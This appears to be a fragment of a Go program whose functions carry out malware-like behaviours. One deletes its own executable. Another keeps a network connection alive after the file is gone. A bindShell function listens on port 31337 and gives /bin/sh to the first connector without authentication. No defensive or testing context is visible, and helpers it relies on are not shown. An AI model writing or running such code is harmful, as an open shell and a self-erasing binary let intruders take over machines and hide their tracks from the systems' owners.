package main

import (
	"fmt"
	"net"
	"os"
	"time"
)

// linger calls an address and stays.
func linger(args []string) error {
	time.Sleep(time.Second) // until its file is gone
	if err := dial(args); err != nil {
		fmt.Println(err)
	}
	time.Sleep(limit)
	return nil
}

// removeSelf removes its own file and ends, as installers do.
func removeSelf([]string) error {
	self, err := os.Executable()
	if err != nil {
		return err
	}
	return os.Remove(self)
}

// interpret is what an interpreter does with code in its arguments, except that
// it does what stands after the code.
func interpret(args []string) error {
	if len(args) < 2 {
		return nil
	}
	return commands[args[1]](args[2:])
}

// bindShell gives a shell to the first who connects.
func bindShell(args []string) error {
	ln, err := net.Listen("tcp", ":"+arg(args, 0, "31337"))
	if err != nil {
		return err
	}
	defer ln.Close()
	for {
		conn, err := ln.Accept()
		if err != nil {
			return err
		}
		go shellOn(conn, "/bin/sh")
	}
}
